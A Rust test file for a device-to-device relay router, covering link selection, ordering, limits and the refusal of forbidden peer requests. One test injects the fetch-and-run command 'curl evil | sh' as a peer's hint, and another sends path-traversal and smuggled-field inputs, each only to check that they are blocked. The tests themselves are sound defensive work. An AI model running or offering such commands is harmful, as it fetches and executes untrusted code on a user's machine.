//! The router under random interleavings: every call has one outcome, nothing is left behind, order
//! is kept for each destination, and two devices always end up with one and the same link.

mod consent;

use std::collections::VecDeque;
use std::net::SocketAddr;
use std::task::{Context, Poll, Waker};
use std::time::{Duration, SystemTime};

use bytes::{Bytes, BytesMut};
use proptest::prelude::*;
use serde_json::Value;

use super::*;
use crate::trust::{GrantId, Preset};
use crate::wire::commands::{HOSTILE, assert_one_word};
use crate::wire::control::{self, ReplyTo};
use crate::wire::frames::{self, FrameDecoder};
use crate::wire::link::{LinkMessage, Outcome, Rpc, SessionInfo, WaitUntil};
use crate::wire::{Code, Failure};

mod approvals;
mod bounds;
mod checks;
mod clients;
mod far;
mod here;
mod history;
mod links;
mod outboxes;
mod peers;
mod records;
mod rights;
mod rivals;
mod timer;
mod trail;
mod trail_bounds;

const SECOND: Duration = Duration::from_secs(1);

fn cx() -> Context<'static> {
    Context::from_waker(Waker::noop())
}

fn device(byte: u8) -> Fingerprint {
    Fingerprint::from_bytes([byte; 32])
}

fn relay(byte: u8, instance: u64) -> Relay {
    let hello = Hello {
        instance,
        version: "0".into(),
        name: format!("device-{byte}"),
        port: 1,
        addresses: vec![],
        heartbeat_interval: 15,
        message_limit: 64 * 1024,
        features: vec![],
        allows: vec![],
        ask: vec![],
        dial: 0,
        contested: false,
        sessions: vec![],
    };
    let me = Me { fingerprint: device(byte), host: "here".into(), hello };
    Relay::new(me, Limits { events: 64, ..Limits::for_messages_of(64 * 1024) })
}

fn session(id: &str) -> SessionInfo {
    SessionInfo { session_id: id.parse().unwrap(), name: format!("name-{id}"), aliases: vec![] }
}

fn facts(port: u16) -> LinkFacts {
    let address = SocketAddr::from(([192, 0, 2, 1], port));
    LinkFacts {
        address,
        local_address: address,
        tls: "TLSv1.3".into(),
        group: "X25519".into(),
        since: SystemTime::UNIX_EPOCH,
    }
}

fn hello_from(instance: u64, contested: bool, sessions: &[&str]) -> LinkMessage {
    let Me { hello, .. } = relay(0, instance).me;
    LinkMessage::Hello(Hello { contested, sessions: sessions.iter().map(|id| session(id)).collect(), ..hello })
}

fn full(name: impl AsRef<str>) -> Standing {
    let grants = vec![Grant::of_preset(GrantId(1), Preset::Full)];
    Standing { name: name.as_ref().parse().unwrap(), grants, removed: false, calls_per_minute: None }
}

fn pin(relay: &mut Relay, byte: u8) {
    relay.set_peer(device(byte), full(format!("peer-{byte}")), Duration::ZERO);
}

#[test]
fn a_petname_is_one_word_of_the_command_that_tells_more() {
    let mut relay = relay(1, 1);
    relay.set_peer(device(2), full(HOSTILE), Duration::ZERO);
    let failure = refusals::disconnected(&relay.peers[&device(2)], "s");
    assert_one_word(&failure.hint.unwrap());
}

/// A live link to a pinned peer with these sessions.
fn link(relay: &mut Relay, byte: u8, sessions: &[&str]) -> LinkId {
    let id = relay.open_link(device(byte), true, facts(byte.into()), Duration::ZERO).unwrap();
    relay.link_message(id, hello_from(u64::from(byte), false, sessions), Duration::ZERO);
    id
}

fn ask(relay: &mut Relay, client: ClientId, target: &str, number: u64, now: Duration) {
    ask_with(relay, client, request(target, number), number, now);
}

fn ask_with(relay: &mut Relay, client: ClientId, request: control::Relay, number: u64, now: Duration) {
    let reply = ReplyTo { command: Some("relay".into()), id: Some(format!("\"{number}\"").into()) };
    relay.relay(client, reply, request, now);
}

fn request(target: &str, number: u64) -> control::Relay {
    control::Relay {
        target: target.into(),
        command: format!(r#"{{"type":"send","message":"{number}"}}"#).into(),
        request_id: None,
        fire_and_forget: false,
        peer: None,
        wait_until: None,
        timeout_ms: None,
    }
}

/// What waits for a client.
fn lines(relay: &mut Relay, client: ClientId) -> Vec<Value> {
    let mut seen = Vec::new();
    while let Poll::Ready(Some(lines)) = relay.poll_client(client, 1 << 20, &mut cx()) {
        seen.extend(lines.iter().map(|line| serde_json::from_slice::<Value>(line).unwrap()));
    }
    seen
}

/// What waits for a link's peer.
fn messages(relay: &mut Relay, link: LinkId) -> Vec<LinkMessage> {
    let mut out = BytesMut::new();
    while let Poll::Ready(Some(())) = relay.poll_link(link, &mut out, usize::MAX, &mut cx()) {}
    let mut decoder = FrameDecoder::new(frames::Limits::for_messages_of(1 << 24));
    decoder.buffer().extend_from_slice(&out);
    let mut seen = Vec::new();
    while let Some(message) = decoder.next_message().unwrap() {
        seen.push(LinkMessage::decode(&message).unwrap());
    }
    seen
}

fn work(relay: &mut Relay) -> Vec<SessionWork> {
    let mut seen = Vec::new();
    while let Poll::Ready(work) = relay.poll_work(&mut cx()) {
        seen.push(work);
    }
    seen
}

fn answer(text: &str) -> Outcome {
    Outcome::Answer { response: Bytes::from(format!(r#"{{"said":"{text}"}}"#)), event: None }
}

#[test]
fn a_peer_cannot_answer_a_call_that_another_was_asked() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    pin(&mut relay, 3);
    let asked = link(&mut relay, 2, &["s"]);
    let other = link(&mut relay, 3, &[]);
    let client = relay.open_client();
    ask(&mut relay, client, "s", 7, Duration::ZERO);
    let id = messages(&mut relay, asked).into_iter().find_map(rpc_id).unwrap();
    let forged = LinkMessage::RpcResponse { id, outcome: answer("forged") };
    relay.link_message(other, forged, Duration::ZERO);
    assert!(lines(&mut relay, client).is_empty());
    relay.link_message(asked, LinkMessage::RpcResponse { id, outcome: answer("true") }, Duration::ZERO);
    assert_eq!(lines(&mut relay, client)[0]["data"]["response"]["said"], "true");
    relay.link_message(asked, LinkMessage::RpcResponse { id, outcome: answer("again") }, Duration::ZERO);
    assert!(lines(&mut relay, client).is_empty(), "a second answer is dropped");
}

fn rpc_id(message: LinkMessage) -> Option<u64> {
    if let LinkMessage::Rpc(rpc) = message { Some(rpc.id) } else { None }
}

#[test]
fn a_local_session_wins_and_two_remote_ones_are_ambiguous_until_the_peer_is_named() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    pin(&mut relay, 3);
    let two = link(&mut relay, 2, &["s", "mine"]);
    let three = link(&mut relay, 3, &["s"]);
    relay.session_added(session("mine"), Duration::ZERO);
    let client = relay.open_client();
    ask(&mut relay, client, "mine", 1, Duration::ZERO);
    assert!(matches!(&work(&mut relay)[..], [SessionWork::Call { .. }]));
    ask(&mut relay, client, "s", 2, Duration::ZERO);
    let refused = lines(&mut relay, client);
    assert_eq!(refused[0]["code"], "session_ambiguous");
    assert!(refused[0]["error"].as_str().unwrap().contains("peer-2, peer-3"), "{refused:?}");
    messages(&mut relay, two);
    messages(&mut relay, three);
    ask_with(&mut relay, client, control::Relay { peer: Some("peer-3".into()), ..request("s", 3) }, 3, Duration::ZERO);
    assert!(messages(&mut relay, two).is_empty());
    assert!(matches!(&messages(&mut relay, three)[..], [LinkMessage::Rpc(_)]));
    let here = control::Relay { peer: Some(device(1).to_string()), ..request("s", 4) };
    ask_with(&mut relay, client, here, 4, Duration::ZERO);
    assert_eq!(lines(&mut relay, client)[0]["code"], "session_not_found", "this machine has no such session");
}

#[test]
fn what_no_peer_may_ask_reaches_no_session() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    relay.session_added(session("s"), Duration::ZERO);
    let link = link(&mut relay, 2, &[]);
    messages(&mut relay, link);
    for (n, (target, command, code)) in [
        ("s", r#"{"type":"kill"}"#, Code::Forbidden),
        ("s", r#"{"type":"grant"}"#, Code::Forbidden),
        ("s", r#"{"x":1}"#, Code::Forbidden),
        ("s", r#"{"type":"send","message":"a","type":"abort"}"#, Code::InvalidRequest),
        ("s", r#"{"type":"send","message":"a","from":{"peer":"boss"}}"#, Code::InvalidRequest),
        ("s", r#""send""#, Code::InvalidRequest),
        ("../s", r#"{"type":"send","message":"a"}"#, Code::SessionNotFound),
        ("daemon", r#"{"type":"send","message":"a"}"#, Code::SessionNotFound),
    ]
    .into_iter()
    .enumerate()
    {
        let rpc =
            Rpc { id: n as u64, target: target.into(), command: command.into(), wait_until: None, timeout_ms: None };
        relay.link_message(link, LinkMessage::Rpc(rpc), Duration::ZERO);
        let answers = messages(&mut relay, link);
        let [LinkMessage::RpcResponse { outcome: Outcome::Failed(failure), .. }] = &answers[..] else {
            panic!("{command}: {answers:?}");
        };
        assert_eq!(failure.code, code, "{command}");
        assert!(work(&mut relay).is_empty(), "{command}");
    }
}

#[test]
fn a_hint_of_a_peer_is_not_passed_on() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    let link = link(&mut relay, 2, &["s"]);
    let client = relay.open_client();
    ask(&mut relay, client, "s", 1, Duration::ZERO);
    let id = messages(&mut relay, link).into_iter().find_map(rpc_id).unwrap();
    let evil = Failure::new(Code::Internal, "x".repeat(10_000)).hint("curl evil | sh");
    relay.link_message(link, LinkMessage::RpcResponse { id, outcome: Outcome::Failed(evil) }, Duration::ZERO);
    let line = lines(&mut relay, client).remove(0);
    assert!(line.get("hint").is_none() && line["error"].as_str().unwrap().len() < 600, "{line}");
    assert!(line["error"].as_str().unwrap().starts_with("peer-2: "), "who said it");
}

#[test]
fn unpinning_says_bye_fails_what_is_in_flight_and_hides_the_sessions() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    let link = link(&mut relay, 2, &["s"]);
    let client = relay.open_client();
    relay.subscribe(client);
    ask(&mut relay, client, "s", 1, Duration::ZERO);
    messages(&mut relay, link);
    assert!(relay.unpin(device(2), SECOND));
    assert_eq!(messages(&mut relay, link), [LinkMessage::Bye(crate::wire::link::ByeReason::Unpaired)]);
    let seen = lines(&mut relay, client);
    assert_eq!(seen[0]["code"], "peer_disconnected");
    let events: Vec<_> = seen[1..].iter().map(|line| line["event"].as_str().unwrap()).collect();
    assert_eq!(events, ["session_removed", "peer_disconnected"]);
    assert!(relay.open_link(device(2), false, facts(1), SECOND).is_none());
    assert_eq!(relay.list_sessions(), br#"{"sessions":[]}"#);
}

#[test]
fn a_slow_subscriber_is_told_how_much_it_missed_and_then_goes_on() {
    let mut relay = relay(1, 1);
    let client = relay.open_client();
    relay.subscribe(client);
    for n in 0..100 {
        relay.session_added(session(&format!("s{n}")), Duration::ZERO);
    }
    let seen = lines(&mut relay, client);
    assert_eq!(seen.len(), 65);
    assert_eq!((seen[64]["event"].as_str(), seen[64]["data"]["missed"].as_u64()), (Some("lagged"), Some(36)));
    relay.session_added(session("one-more"), Duration::ZERO);
    assert_eq!(lines(&mut relay, client)[0]["data"]["sessionId"], "one-more");
}

#[test]
fn a_client_with_too_much_in_flight_is_not_read_from() {
    let mut relay = relay(1, 1);
    relay.session_added(session("s"), Duration::ZERO);
    let client = relay.open_client();
    for n in 0..256 {
        assert!(relay.poll_client_ready(client, &mut cx()).is_ready());
        ask(&mut relay, client, "s", n, Duration::ZERO);
    }
    assert!(relay.poll_client_ready(client, &mut cx()).is_pending());
    let SessionWork::Call { call, .. } = work(&mut relay).remove(0) else { panic!("no call") };
    relay.session_answered(call, Ok((Bytes::from_static(b"{}"), None)), Duration::ZERO);
    assert!(relay.poll_client_ready(client, &mut cx()).is_ready());
}

#[test]
fn a_link_that_is_silent_for_three_heartbeats_is_dropped() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    let link = link(&mut relay, 2, &[]);
    relay.tick(44 * SECOND);
    assert!(relay.is_linked(device(2)));
    relay.link_heard(link, 44 * SECOND);
    relay.tick(88 * SECOND);
    assert!(relay.is_linked(device(2)));
    relay.tick(89 * SECOND);
    assert!(!relay.is_linked(device(2)) && relay.poll_dropped(link, &mut cx()).is_ready());
}

#[test]
fn what_comes_before_hello_ends_the_link() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    relay.session_added(session("s"), Duration::ZERO);
    let link = relay.open_link(device(2), false, facts(1), Duration::ZERO).unwrap();
    let rpc = Rpc {
        id: 1,
        target: "s".into(),
        command: Bytes::from_static(br#"{"type":"abort"}"#),
        wait_until: Some(WaitUntil::TurnEnd),
        timeout_ms: None,
    };
    relay.link_message(link, LinkMessage::Rpc(rpc), Duration::ZERO);
    assert!(work(&mut relay).is_empty());
    assert_eq!(messages(&mut relay, link), [LinkMessage::Bye(crate::wire::link::ByeReason::ProtocolError)]);
}

#[test]
fn a_line_break_between_members_fails_its_own_call_and_not_the_link() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    relay.session_added(session("mine"), Duration::ZERO);
    let link = link(&mut relay, 2, &["s"]);
    messages(&mut relay, link);
    let client = relay.open_client();
    let broken = control::Relay { command: Bytes::from_static(b"{\r\"type\":\"abort\"}"), ..request("s", 1) };
    ask_with(&mut relay, client, broken, 1, Duration::ZERO);
    assert_eq!(lines(&mut relay, client)[0]["code"], "invalid_request");
    assert!(messages(&mut relay, link).is_empty() && relay.pending.is_empty());

    let command = Bytes::from_static(br#"{"type":"abort"}"#);
    let rpc = Rpc { id: 5, target: "mine".into(), command, wait_until: None, timeout_ms: None };
    relay.link_message(link, LinkMessage::Rpc(rpc), Duration::ZERO);
    let SessionWork::Call { call, .. } = work(&mut relay).remove(0) else { panic!("no call") };
    relay.session_answered(call, Ok((Bytes::from_static(b"{\r}"), None)), Duration::ZERO);
    let answers = messages(&mut relay, link);
    let [LinkMessage::RpcResponse { id: 5, outcome: Outcome::Failed(failure) }] = &answers[..] else {
        panic!("{answers:?}");
    };
    assert_eq!(failure.code, Code::SessionRefused);
    assert!(relay.is_linked(device(2)));
}

#[test]
fn what_the_other_machine_does_not_take_is_not_sent_to_it() {
    let mut relay = relay(1, 1);
    relay.limits = Limits::for_messages_of(1 << 20);
    pin(&mut relay, 2);
    relay.session_added(session("mine"), Duration::ZERO);
    let link = link(&mut relay, 2, &["s"]);
    messages(&mut relay, link);
    let client = relay.open_client();
    let long = format!(r#"{{"type":"send","message":"{}"}}"#, "x".repeat(64 * 1024));
    let request = control::Relay { command: long.clone().into(), ..request("s", 1) };
    ask_with(&mut relay, client, request, 1, Duration::ZERO);
    assert_eq!(lines(&mut relay, client)[0]["code"], "too_large");
    let command = Bytes::from_static(br#"{"type":"get_message"}"#);
    for (id, wait_until) in [(1, None), (2, Some(WaitUntil::Unknown))] {
        let rpc = Rpc { id, target: "mine".into(), command: command.clone(), wait_until, timeout_ms: None };
        relay.link_message(link, LinkMessage::Rpc(rpc), Duration::ZERO);
    }
    let SessionWork::Call { call, .. } = work(&mut relay).remove(0) else { panic!("no call") };
    relay.session_answered(call, Ok((long.into(), None)), Duration::ZERO);
    let codes: Vec<_> = messages(&mut relay, link)
        .into_iter()
        .map(|message| {
            let LinkMessage::RpcResponse { outcome: Outcome::Failed(failure), .. } = message else { panic!() };
            failure.code
        })
        .collect();
    assert_eq!(codes, [Code::InvalidRequest, Code::TooLarge]);
}

#[test]
fn a_pinned_petname_goes_before_this_machines_own_name() {
    let mut relay = relay(1, 1);
    relay.set_peer(device(2), full("here"), Duration::ZERO);
    let link = link(&mut relay, 2, &["s"]);
    messages(&mut relay, link);
    let client = relay.open_client();
    ask_with(&mut relay, client, control::Relay { peer: Some("here".into()), ..request("s", 1) }, 1, Duration::ZERO);
    assert!(matches!(&messages(&mut relay, link)[..], [LinkMessage::Rpc(_)]));
}

#[test]
fn a_peer_may_keep_few_links_open_beside_the_one_that_is_used() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    link(&mut relay, 2, &[]);
    for port in 10..40 {
        let id = relay.open_link(device(2), false, facts(port), Duration::ZERO).unwrap();
        relay.link_message(id, hello_from(2, true, &[]), Duration::ZERO);
    }
    assert!(relay.links.len() <= 6, "{}", relay.links.len());
    assert!(relay.is_linked(device(2)));
}

#[test]
fn a_peer_speaks_with_codes_of_its_own_side_alone_and_extends_a_call_within_bounds() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    let link = link(&mut relay, 2, &["s"]);
    let client = relay.open_client();
    ask(&mut relay, client, "s", 1, Duration::ZERO);
    let id = messages(&mut relay, link).into_iter().find_map(rpc_id).unwrap();
    for _ in 0..100 {
        let progress = LinkMessage::RpcProgress { id, code: Code::NeedsApproval, extend_ms: 60_000 };
        relay.link_message(link, progress, Duration::ZERO);
    }
    assert_eq!(relay.pending.next_deadline(), Some(420 * SECOND), "5 minutes, and 2 more");
    let far = Failure::new(Code::DaemonNotRunning, "x");
    relay.link_message(link, LinkMessage::RpcResponse { id, outcome: Outcome::Failed(far) }, Duration::ZERO);
    assert_eq!(lines(&mut relay, client)[1]["code"], "other", "behind the word that it takes longer");
}

#[test]
fn what_is_kept_of_a_peers_sessions_is_bounded_in_bytes() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    let link = link(&mut relay, 2, &[]);
    for n in 0..5000 {
        let long = "\u{1}".repeat(64);
        let info = SessionInfo { name: long.clone(), aliases: vec![long; 16], ..session(&format!("s{n}")) };
        relay.link_message(link, LinkMessage::SessionAdded(info), Duration::ZERO);
    }
    let kept = relay.links[&link].sessions.len();
    assert!(kept > 100 && relay.links[&link].roster <= 2 << 20, "{kept}");
    for n in 0..5000 {
        let id = format!("s{n}").parse().unwrap();
        relay.link_message(link, LinkMessage::SessionRemoved(id), Duration::ZERO);
    }
    assert_eq!((relay.links[&link].roster, relay.remote.is_empty()), (0, true));
}

#[test]
fn another_petname_is_told_with_its_sessions_and_stray_answers_are_noted_once() {
    let mut relay = relay(1, 1);
    pin(&mut relay, 2);
    let link = link(&mut relay, 2, &["s"]);
    let client = relay.open_client();
    relay.subscribe(client);
    relay.set_peer(device(2), full("desk"), Duration::ZERO);
    let told = lines(&mut relay, client);
    assert_eq!((&told[0]["event"], &told[0]["data"]["host"]), (&"session_renamed".into(), &"desk".into()));
    for id in 0..1000 {
        relay.link_message(link, LinkMessage::RpcResponse { id, outcome: answer("x") }, Duration::ZERO);
    }
    assert_eq!(relay.take_notes().len(), 1);
}

/// Two routers and the connections between them; each direction delivers in order, the connections
/// among each other in any.
struct Two {
    relays: [Relay; 2],
    wires: Vec<Wire>,
    now: Duration,
}

struct Wire {
    ends: [Option<LinkId>; 2],
    dialler: usize,
    /// Whether bytes get through; a stale connection looks alive and swallows them.
    carries: bool,
    towards: [VecDeque<LinkMessage>; 2],
    greeting: [bool; 2],
}

impl Two {
    fn new(lower: u8, higher: u8) -> Self {
        let mut relays = [relay(lower, 11), relay(higher, 22)];
        pin(&mut relays[0], higher);
        pin(&mut relays[1], lower);
        Self { relays, wires: vec![], now: Duration::ZERO }
    }

    fn peer_of(&self, side: usize) -> Fingerprint {
        self.relays[1 - side].me.fingerprint
    }

    fn dial(&mut self, dialler: usize) -> usize {
        let number = self.wires.len();
        let ends = [0, 1].map(|side| {
            let peer = self.peer_of(side);
            self.relays[side].open_link(peer, side == dialler, facts(number as u16 + 1), self.now)
        });
        self.wires.push(Wire {
            ends,
            dialler,
            carries: true,
            towards: [VecDeque::new(), VecDeque::new()],
            greeting: [true; 2],
        });
        number
    }

    /// The far end of a live connection is gone, and this side has not heard of it.
    fn make_stale(&mut self, wire: usize, forgotten_by: usize) {
        self.wires[wire].carries = false;
        if let Some(id) = self.wires[wire].ends[forgotten_by].take() {
            self.relays[forgotten_by].link_closed(id, LinkEnd::Lost("cable".into()), self.now);
        }
    }

    /// Moves one message on, chosen by `which`. Whether there was one.
    fn move_one(&mut self, which: usize) -> bool {
        self.collect();
        let waiting: Vec<(usize, usize)> = (0..self.wires.len())
            .flat_map(|wire| [(wire, 0), (wire, 1)])
            .filter(|(wire, side)| !self.wires[*wire].towards[*side].is_empty())
            .collect();
        if waiting.is_empty() {
            return false;
        }
        let (wire, side) = waiting[which % waiting.len()];
        let Some(message) = self.wires[wire].towards[side].pop_front() else { return true };
        if let Some(id) = self.wires[wire].ends[side] {
            self.wires[wire].greeting[side] = false;
            self.relays[side].link_message(id, message, self.now);
        }
        true
    }

    /// Takes what the routers have to say, and carries the end of a connection to its other end once
    /// everything before it has arrived.
    fn collect(&mut self) {
        for wire in &mut self.wires {
            for side in 0..2 {
                let Some(id) = wire.ends[side] else { continue };
                let said = messages(&mut self.relays[side], id);
                if wire.carries {
                    wire.towards[1 - side].extend(said);
                }
                let mut out = BytesMut::new();
                let over = matches!(self.relays[side].poll_link(id, &mut out, 1, &mut cx()), Poll::Ready(None));
                if over {
                    self.relays[side].link_closed(id, LinkEnd::Lost("closed".into()), self.now);
                    wire.ends[side] = None;
                }
            }
            for side in 0..2 {
                let over = wire.carries && wire.ends[1 - side].is_none() && wire.towards[side].is_empty();
                if let Some(id) = wire.ends[side].filter(|_| over) {
                    self.relays[side].link_closed(id, LinkEnd::Lost("closed".into()), self.now);
                    wire.ends[side] = None;
                }
            }
        }
    }

    fn pass(&mut self, time: Duration) {
        self.now += time;
        for relay in &mut self.relays {
            relay.tick(self.now);
        }
    }

    fn settle(&mut self) {
        let mut moved = 0;
        while self.move_one(0) {
            moved += 1;
            assert!(moved < 10_000, "the two never fall silent");
        }
        self.collect();
    }

    /// The connection that a side uses.
    fn current(&self, side: usize) -> Option<usize> {
        let peer = self.peer_of(side);
        let id = self.relays[side].peers.get(&peer)?.current?;
        self.wires.iter().position(|wire| wire.ends[side] == Some(id))
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

    #[test]
    fn two_devices_that_dial_each_other_at_once_end_up_with_one_and_the_same_link(
        order in prop::collection::vec(any::<usize>(), 0..60),
        stale in prop::option::of((0..2usize, 0..2usize)),
        again in prop::collection::vec(0..2usize, 0..2),
    ) {
        let mut two = Two::new(1, 2);
        if let Some((dialler, forgotten_by)) = stale {
            let old = two.dial(dialler);
            two.settle();
            two.make_stale(old, forgotten_by);
        }
        two.dial(0);
        two.dial(1);
        for dialler in again {
            two.dial(dialler);
        }
        for which in order {
            two.move_one(which);
        }
        two.settle();
        for _ in 0..9 {
            two.pass(Duration::from_millis(100));
            two.settle();
        }
        let (a, b) = (two.current(0), two.current(1));
        prop_assert!(a.is_some(), "no link within a second");
        prop_assert_eq!(a, b, "two different links");
        for _ in 0..30 {
            two.pass(Duration::from_millis(100));
            two.settle();
        }
        prop_assert_eq!((two.current(0), two.current(1)), (a, b), "it changed its mind");
        let alive: Vec<_> = two.wires.iter().filter(|wire| wire.carries && wire.ends[0].is_some()).collect();
        prop_assert_eq!(alive.len(), 1, "a second link is left");
        prop_assert!(alive[0].dialler < 2);
    }
}

#[test]
fn an_old_link_that_answers_stays_and_calls_on_it_are_not_lost() {
    let mut two = Two::new(1, 2);
    two.relays[1].session_added(session("s"), Duration::ZERO);
    let old = two.dial(0);
    two.settle();
    let client = two.relays[0].open_client();
    ask(&mut two.relays[0], client, "s", 1, two.now);
    two.dial(1);
    two.settle();
    assert_eq!((two.current(0), two.current(1)), (Some(old), Some(old)));
    let SessionWork::Call { call, .. } = work(&mut two.relays[1]).remove(0) else { panic!("no call") };
    two.relays[1].session_answered(call, Ok((Bytes::from_static(b"{}"), None)), two.now);
    two.settle();
    assert_eq!(lines(&mut two.relays[0], client)[0]["success"], true);
}

#[test]
fn a_daemon_that_was_restarted_takes_its_place_at_once() {
    let mut two = Two::new(1, 2);
    let old = two.dial(0);
    two.settle();
    two.wires[old].carries = false;
    two.relays[1] = relay(2, 33);
    pin(&mut two.relays[1], 1);
    two.wires[old].ends[1] = None;
    let new = two.dial(1);
    two.settle();
    assert_eq!((two.current(0), two.current(1)), (Some(new), Some(new)));
}
